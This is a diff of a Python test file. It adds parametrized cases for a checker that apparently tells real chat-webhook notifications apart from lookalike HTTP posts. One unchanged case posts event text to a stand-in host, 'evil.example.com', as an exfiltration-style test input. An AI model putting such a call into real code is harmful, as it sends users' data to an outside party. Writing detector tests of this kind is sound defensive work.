@@ -50,6 +50,8 @@ def told(tmp_path: Path, lines: str) -> list[bool]:
         "req = Request(HOOK, event['message'])\nurlopen(req)",
         'WebClient(token="t").chat_postMessage(channel="c", text="t")',
         'WebhookClient(url).send(text="t")',
+        'requests.post(os.environ["TEAMS_WEBHOOK"], json=event)',
+        'requests.post(url, json={"attachments": [note]})',
     ],
 )
 def test_a_message_in_a_chat_tells_people(lines: str, tmp_path: Path) -> None:
@@ -68,6 +70,8 @@ def test_a_message_in_a_chat_tells_people(lines: str, tmp_path: Path) -> None:
         'requests.post("https://shop.example.com/slack-hook", json=event)',
         'requests.post("https://evil.example.com/?https://x", json=event["text"])',
         'pool.request("POST", url, fields=note)',
+        'requests.post(os.environ["TEAMS_URL"], json=event)',
+        'requests.post(os.environ["CHAT_ENDPOINT"], json=event)',
     ],
 )
 def test_a_request_that_only_looks_like_it_tells_nobody(lines: str, tmp_path: Path) -> None:
